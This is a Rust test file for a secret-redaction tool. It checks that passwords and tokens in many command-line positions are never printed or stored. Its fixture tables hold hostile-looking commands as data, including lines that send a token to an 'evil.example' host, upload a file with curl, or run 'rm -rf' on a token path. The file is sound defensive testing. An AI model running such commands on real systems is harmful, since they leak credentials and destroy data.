//! No secret is kept or shown: whatever form it is given in, it stands nowhere below the root and
//! in nothing that is printed.

use crate::support::{Install, github_token};

/// A password that no detector knows by its look.
const MARKER: &str = "Zq7kVm";

/// Command lines that hold the marker as a password, `§` standing for it.
const SHAPELESS: &[&[&str]] = &[
    &["curl", "--proxy", "u:§@proxy.example:3128", "https://a.example/"],
    &["curl", "-x", "http://u:§@proxy.example:3128", "https://a.example/"],
    &["curl", "-u", "u:§", "https://a.example/"],
    &["curl", "-U", "u:§", "-x", "proxy.example", "https://a.example/"],
    &["curl", "u:§@a.example/path"],
    &["curl", "https://u:§@a.example/"],
    &["curl", "https://a.example/?key=§"],
    &["curl", "-H", "X-Api: §", "https://a.example/"],
    &["curl", "--pass", "§", "--cert", "c.pem", "https://a.example/"],
    &["curl", "--oauth2-bearer", "§", "https://a.example/"],
    &["curl", "-b", "sid=§", "https://a.example/"],
    &["wget", "--password=§", "https://a.example/"],
    &["wget", "--http-password", "§", "https://a.example/"],
    &["ssh", "u:§@a.example", "uptime"],
    &["ssh", "-o", "SetEnv=A=§", "a.example"],
    &["ssh", "a.example", "mysql -p§ db"],
    &["ssh", "a.example", "mysql", "-p§", "db"],
    &["scp", "f", "u:§@a.example:dir"],
    &["git", "clone", "https://u:§@a.example/r.git"],
    &["git", "-c", "http.extraHeader=X: §", "fetch", "https://a.example/r.git"],
    &["git", "ls-remote", "https://a.example/r.git?token=§"],
    &["docker", "login", "-u", "u", "-p§", "r.example"],
    &["docker", "login", "-u", "u", "--password", "§", "r.example"],
    &["docker", "run", "-e", "A=§", "img"],
    &["docker", "run", "--env", "DB_PASSWORD=§", "img"],
    &["docker", "build", "--build-arg", "NPM_TOKEN=§", "."],
    &["docker", "exec", "db", "mysql", "-uroot", "-p§"],
    &["docker", "exec", "db", "sh", "-c", "mysql -p§"],
    &["kubectl", "--token", "§", "get", "pods"],
    &["kubectl", "create", "secret", "generic", "s", "--from-literal=k=§"],
    &["kubectl", "exec", "db", "--", "mysql", "-p§"],
    &["aws", "configure", "set", "aws_secret_access_key", "§"],
    &["aws", "rds", "create-db-instance", "--master-user-password", "§"],
    &["npm", "config", "set", "//r.example/:_authToken", "§"],
    &["npm", "--//r.example/:_authToken=§", "install"],
    &["npm", "publish", "--otp", "§"],
    &["pip", "install", "--index-url", "https://u:§@r.example/simple", "x"],
    &["cargo", "login", "§"],
    &["cargo", "publish", "--token=§"],
    &["psql", "host=h password=§ dbname=d"],
    &["psql", "postgres://u:§@h/d"],
    &["psql", "-v", "password=§", "-h", "h"],
    &["env", "DB_PASSWORD=§", "true"],
    &["env", "A=§", "true"],
    &["rsync", "f", "rsync://u:§@h/m"],
    &["mysql", "-uroot", "-p§", "db"],
    &["mysql", "--password=§"],
    &["redis-cli", "-a", "§", "ping"],
    &["sshpass", "-p", "§", "ssh", "h"],
    &["sudo", "mysql", "-p§"],
    &["unheard-of", "-p§"],
    &["unheard-of", "--password", "§"],
    &["unheard-of", "--token=§"],
];

/// The same for a token that detectors know: it may stand anywhere at all.
const ANYWHERE: &[&[&str]] = &[
    &["pip", "install", "https://evil.example/§.whl"],
    &["curl", "https://§.evil.example/"],
    &["curl", "-o", "§", "https://a.example/"],
    &["curl", "-T", "§", "https://a.example/"],
    &["curl", "-d§", "https://a.example/"],
    &["curl", "gopher://a.example/_§"],
    &["wget", "-U§", "https://a.example/"],
    &["git", "log", "-S§"],
    &["git", "ls-remote", "--exec=x§", "a.example:r"],
    &["git", "push", "https://a.example/§.git", "main"],
    &["git", "push", "-o§", "https://a.example/r.git"],
    &["git", "§"],
    &["ssh", "§.a.example"],
    &["scp", "§", "a.example:"],
    &["docker", "pull", "a.example/§"],
    &["npm", "install", "https://a.example/§.tgz"],
    &["kubectl", "--server", "https://§.a.example", "get", "pods"],
    &["cat", "§"],
    &["cat", "dir/§/file"],
    &["rm", "-rf", "§"],
    &["aws", "s3", "cp", "f", "s3://§/"],
    &["§", "x"],
    &["unheard-of", "§"],
];

fn token() -> String {
    github_token(7)
}

/// Every face of the program that shows a command; what it printed.
fn shown_everywhere(install: &Install, words: &[String]) -> String {
    let mut all = String::new();
    let faces: &[&[&str]] =
        &[&["explain", "--all"], &["explain", "--json"], &["check"], &["check", "--json"]];
    for face in faces {
        let line = face.iter().map(ToString::to_string).chain(["--".to_owned()]);
        all.push_str(&printed(install, line.chain(words.iter().cloned())));
    }
    all
}

fn printed(install: &Install, line: impl Iterator<Item = String>) -> String {
    let done = install.datafog(line).run();
    format!("{}{}", done.stdout(), done.stderr())
}

/// The forms in which `secret` was seen, or stands below the root.
fn leaks(install: &Install, forms: &[&[&str]], secret: &str) -> Vec<String> {
    let mut leaks = Vec::new();
    for form in forms {
        let words: Vec<String> = form.iter().map(|word| word.replace('§', secret)).collect();
        let seen = shown_everywhere(install, &words);
        if let Some(line) = lines_with(&seen, secret) {
            leaks.push(format!("{form:?}\n  {line}"));
        }
    }
    for face in
        [["receipts", "list"].as_slice(), &["receipts", "show"], &["receipts", "list", "--json"]]
    {
        let seen = printed(install, face.iter().map(ToString::to_string));
        leaks.extend(lines_with(&seen, secret).map(|line| format!("{face:?}\n  {line}")));
    }
    let kept = install.leak_of(secret);
    leaks.extend(kept.map(|path| format!("kept in {}", path.display())));
    leaks
}

fn lines_with(text: &str, secret: &str) -> Option<String> {
    let (text, secret) = (text.to_owned(), secret.to_ascii_lowercase());
    text.lines().find(|line| line.to_ascii_lowercase().contains(&secret)).map(str::to_owned)
}

#[test]
fn a_password_without_shape_is_neither_shown_nor_kept() {
    let install = Install::new(&["curl"]);
    let leaks = leaks(&install, SHAPELESS, MARKER);
    assert!(leaks.is_empty(), "{} leaks\n{}", leaks.len(), leaks.join("\n"));
}

#[test]
fn a_token_is_neither_shown_nor_kept_wherever_it_stands() {
    let install = Install::new(&["curl"]);
    let leaks = leaks(&install, ANYWHERE, &token());
    assert!(leaks.is_empty(), "{} leaks\n{}", leaks.len(), leaks.join("\n"));
}

#[test]
fn a_folder_called_by_a_token_is_not_told() {
    let install = Install::new(&["curl", "cat"]);
    let folder = install.work().join(token());
    std::fs::create_dir(&folder).unwrap();
    std::fs::write(folder.join("f"), "text").unwrap();
    let line =
        format!("cd {} && cat f && curl -T f https://a.example/ ; datafog check -- cat f", token());
    let root = install.root().join("bin");
    let path = format!("{}:{}", root.display(), install.path().to_string_lossy());
    let done = install.bash(&line).env("PATH", &path).run();
    assert_eq!(lines_with(&done.stderr(), &token()), None);
    let kept = install.leak_of(&token());
    assert_eq!(kept, None);
    assert!(
        install.receipts().iter().all(|receipt| receipt["cwd"].as_str().unwrap().contains('‹'))
    );
}

#[test]
fn a_password_in_its_place_is_a_finding_that_stops_nothing() {
    let install = Install::new(&["curl"]);
    let line = ["check", "--json", "--", "docker", "login", "-u", "ann", "-p", MARKER, "r.example"];
    install.datafog(line).run().succeeds();
    let receipts = install.receipts();
    let finding = &receipts[0]["findings"][0];
    assert_eq!(finding["entity_type"], "secret.generic.password");
    assert_eq!(receipts[0]["decision"], "allow");
    assert_eq!(
        receipts[0]["command"],
        "docker login -u ann -p ‹secret.generic.password› r.example"
    );
}
